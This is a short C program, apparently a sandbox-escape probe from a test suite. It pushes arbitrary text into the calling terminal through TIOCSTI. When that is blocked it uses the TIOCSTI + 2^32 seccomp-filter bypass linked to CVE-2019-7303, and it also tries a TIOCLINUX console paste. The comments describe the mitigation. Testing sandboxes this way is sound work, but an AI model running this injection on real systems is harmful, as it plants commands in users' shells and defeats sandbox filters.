/* type-in.c - type into the terminal that we were started from. */
/* SPDX-License-Identifier: MIT */

/*
 * What:  TIOCSTI puts a character into a terminal as if it had been typed. It
 *        stays there when we have ended, and the caller's shell reads it.
 *        TIOCLINUX pastes on a console.
 * How:   the kernel looks at 32 bits of the command. A filter that compares 64
 *        lets TIOCSTI + 2^32 pass (snapd's did, CVE-2019-7303).
 * Stop:  a filter that looks at 32 (step 09), or a terminal of its own.
 *
 * type-in TEXT types it. Exit code 0: escaped, it is in the caller's terminal.
 */
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

/* All of `text`; 0, or -1 and errno. */
static int type(unsigned long command, const char *text)
{
	for (; *text; text++)
		if (syscall(SYS_ioctl, STDIN_FILENO, command, text) < 0)
			return -1;
	return 0;
}

int main(int argc, char **argv)
{
	char paste[] = { 3 }; /* what is selected */

	if (argc != 2)
		return fprintf(stderr, "usage: type-in TEXT\n"), 2;
	if (type(TIOCSTI, argv[1]) == 0)
		return puts("typed"), 0;
	perror("TIOCSTI");
	if (type(TIOCSTI + (1UL << 32), argv[1]) == 0)
		return puts("typed, past the filter"), 0;
	perror("TIOCSTI + 2^32");
	if (syscall(SYS_ioctl, STDIN_FILENO, TIOCLINUX, paste) == 0)
		return puts("pasted"), 0;
	perror("TIOCLINUX");
	return 1;
}
